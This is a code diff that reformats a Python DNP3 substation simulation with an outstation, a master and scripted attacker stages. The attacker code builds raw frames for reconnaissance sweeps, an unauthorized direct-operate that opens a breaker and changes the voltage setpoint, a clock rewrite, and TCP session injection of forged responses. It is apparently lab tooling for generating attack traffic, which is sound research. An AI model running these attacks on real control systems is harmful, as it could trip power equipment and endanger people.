@@ -10,7 +10,18 @@ import random
 import struct
 import time
 
-from common import ATTACKER, DEVICES, MASTER, SCAN_PORTS, LoopTap, attacker_socket, echo_timestamps, log, port_scan, recv_some
+from common import (
+    ATTACKER,
+    DEVICES,
+    MASTER,
+    SCAN_PORTS,
+    LoopTap,
+    attacker_socket,
+    echo_timestamps,
+    log,
+    port_scan,
+    recv_some,
+)
 
 OUTSTATION, PORT = DEVICES["dnp3"]
 OUT_ADDR, MASTER_ADDR = 10, 1
@@ -27,6 +38,7 @@ def requirement() -> str | None:
 
 
 # --- outstation ------------------------------------------------------------------------------------
+
 
 async def server(seed: int, command_every: float) -> None:
     from dnp3.database import AnalogInputConfig, BinaryInputConfig, Database
@@ -76,8 +88,9 @@ async def server(seed: int, command_every: float) -> None:
             return 2000
 
     state = {"setpoint": 11000.0}
-    outstation = Outstation(database=db, config=OutstationConfig(address=OUT_ADDR, master_address=MASTER_ADDR),
-                            handler=Handler())
+    outstation = Outstation(
+        database=db, config=OutstationConfig(address=OUT_ADDR, master_address=MASTER_ADDR), handler=Handler()
+    )
 
     class MultiSessionRunner(OutstationTcpRunner):
         """dnp3py's runner drops the old connection when a new one arrives; a substation RTU serves
@@ -116,6 +129,7 @@ async def server(seed: int, command_every: float) -> None:
 
 # --- master ----------------------------------------------------------------------------------------
 
+
 async def master(seed: int, command_every: float) -> None:
     """Integrity poll at start and every 60 s, class 1/2/3 event polls every 2 s, and now and then the
     operator's select/operate of the breaker or of the voltage setpoint."""
@@ -125,7 +139,9 @@ async def master(seed: int, command_every: float) -> None:
     rng = random.Random(seed + 1)
     lg = logging.getLogger("master")
     while True:  # reconnect loop, as a master does after a restart of the outstation
-        m = Master(handler=DefaultSOEHandler(), config=MasterConfig(address=MASTER_ADDR, outstation_address=OUT_ADDR))
+        m = Master(
+            handler=DefaultSOEHandler(), config=MasterConfig(address=MASTER_ADDR, outstation_address=OUT_ADDR)
+        )
         runner = MasterTcpRunner(master=m, host=OUTSTATION, port=PORT, response_timeout=5.0)
         try:
             await runner.open()
@@ -141,7 +157,11 @@ async def master(seed: int, command_every: float) -> None:
                     await runner.class_poll()
                 if time.time() >= next_cmd:
                     if rng.random() < 0.5:
-                        b = CommandBuilder().pulse_on(1, on_time=500) if rng.random() < 0.5 else CommandBuilder().latch_on(0)
+                        b = (
+                            CommandBuilder().pulse_on(1, on_time=500)
+                            if rng.random() < 0.5
+                            else CommandBuilder().latch_on(0)
+                        )
                     else:
                         b = CommandBuilder().add_analog(0, rng.choice([10900, 10950, 11000, 11050, 11100]))
                     await runner.request(m.build_select(b.build_select()))
@@ -156,6 +176,7 @@ async def master(seed: int, command_every: float) -> None:
 
 # --- attacker: raw frames --------------------------------------------------------------------------
 
+
 def _crc(data: bytes) -> bytes:
     from dnp3.core.crc import compute_crc
 
@@ -166,7 +187,7 @@ def link_frame(ctrl: int, dst: int, src: int, user: bytes = b"") -> bytes:
     head = bytes([0x05, 0x64, 5 + len(user), ctrl]) + struct.pack("<HH", dst, src)
     out = head + _crc(head)
     for i in range(0, len(user), 16):
-        block = user[i:i + 16]
+        block = user[i : i + 16]
         out += block + _crc(block)
     return out
 
@@ -198,7 +219,13 @@ CLASS_123 = bytes.fromhex("3c0206 3c0306 3c0406".replace(" ", ""))
 
 
 def crob(index: int, code: int, on_ms: int = 1000) -> bytes:
-    return bytes([12, 1, 0x28]) + struct.pack("<HH", 1, index) + bytes([code, 1]) + struct.pack("<II", on_ms, 0) + b"\0"
+    return (
+        bytes([12, 1, 0x28])
+        + struct.pack("<HH", 1, index)
+        + bytes([code, 1])
+        + struct.pack("<II", on_ms, 0)
+        + b"\0"
+    )
 
 
 def analog_out(index: int, value: int) -> bytes:
@@ -208,15 +235,27 @@ def analog_out(index: int, value: int) -> bytes:
 def stage_recon(ctx) -> str:
     open_ports = port_scan(OUTSTATION)
     s = Session()
-    found = [a for a in list(range(0, 16)) + [OUT_ADDR] if s.link(9, a, 0.2)]  # link-status sweep of addresses
+    found = [
+        a for a in list(range(16)) + [OUT_ADDR] if s.link(9, a, 0.2)
+    ]  # link-status sweep of addresses
     s.request(1, CLASS_0123, wait=1.5)  # integrity poll
-    for g, v in ((1, 0), (10, 0), (20, 0), (30, 0), (40, 0), (50, 1), (60, 1)):  # read every group, all points
+    for g, v in (
+        (1, 0),
+        (10, 0),
+        (20, 0),
+        (30, 0),
+        (40, 0),
+        (50, 1),
+        (60, 1),
+    ):  # read every group, all points
         s.request(1, bytes([g, v, 0x06]), wait=0.5)
         time.sleep(0.05)
     s.request(1, CLASS_0123, wait=0.5, dst=0xFFFF)  # broadcast read
     s.close()
-    return (f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), link-status sweep of link addresses "
-            f"0-15 (answered: {sorted(set(found))}), integrity poll, reads of every object group and a broadcast read on {OUTSTATION}")
+    return (
+        f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), link-status sweep of link addresses "
+        f"0-15 (answered: {sorted(set(found))}), integrity poll, reads of every object group and a broadcast read on {OUTSTATION}"
+    )
 
 
 def stage_write(ctx) -> str:
@@ -225,12 +264,16 @@ def stage_write(ctx) -> str:
     time.sleep(0.5)
     s.request(5, analog_out(0, 14500))  # direct operate: voltage setpoint 14500
     time.sleep(0.5)
-    s.request(2, bytes([50, 1, 0x07, 1]) + (int(time.time() * 1000) - 3600_000).to_bytes(6, "little"))  # time off by 1 h
+    s.request(
+        2, bytes([50, 1, 0x07, 1]) + (int(time.time() * 1000) - 3600_000).to_bytes(6, "little")
+    )  # time off by 1 h
     time.sleep(2)
     s.request(5, analog_out(0, 11000))
     s.close()
-    return (f"new host direct-operates breaker 0 open (g12v1 latch off), the voltage setpoint to 14500 (g41v2), "
-            f"writes the clock 1 h back (g50v1), then sets the setpoint back, on {OUTSTATION}")
+    return (
+        f"new host direct-operates breaker 0 open (g12v1 latch off), the voltage setpoint to 14500 (g41v2), "
+        f"writes the clock 1 h back (g50v1), then sets the setpoint back, on {OUTSTATION}"
+    )
 
 
 def stage_flood(ctx) -> str:
@@ -267,8 +310,16 @@ def stage_spoof(ctx) -> str:
     last_resp = None
     try:
         while time.time() < t_end and sent < 6:
-            seg = tap.next(lambda g: g.payload and ((g.src == OUTSTATION and g.dst == MASTER and g.sport == PORT) or
-                                                    (g.src == MASTER and g.dst == OUTSTATION and g.dport == PORT)), 4.0)
+            seg = tap.next(
+                lambda g: (
+                    g.payload
+                    and (
+                        (g.src == OUTSTATION and g.dst == MASTER and g.sport == PORT)
+                        or (g.src == MASTER and g.dst == OUTSTATION and g.dport == PORT)
+                    )
+                ),
+                4.0,
+            )
             if seg is None:
                 continue
             if seg.src == OUTSTATION:
@@ -282,8 +333,16 @@ def stage_spoof(ctx) -> str:
             objs = bytes([32, 1, 0x28]) + struct.pack("<HHBi", 1, 0, 0x01, 11000)
             app = bytes([0xC0 | aseq, 0x81, 0x00, 0x00]) + objs
             frame = link_frame(0x44, MASTER_ADDR, OUT_ADDR, bytes([0xC0 | ((tseq + 1) % 64)]) + app)
-            tap.inject(OUTSTATION, MASTER, PORT, seg.sport, last_resp.seq + len(last_resp.payload),
-                       seg.seq + len(p), frame, echo_timestamps(last_resp.options))
+            tap.inject(
+                OUTSTATION,
+                MASTER,
+                PORT,
+                seg.sport,
+                last_resp.seq + len(last_resp.payload),
+                seg.seq + len(p),
+                frame,
+                echo_timestamps(last_resp.options),
+            )
             sent += 1
             last_resp = None
     finally:
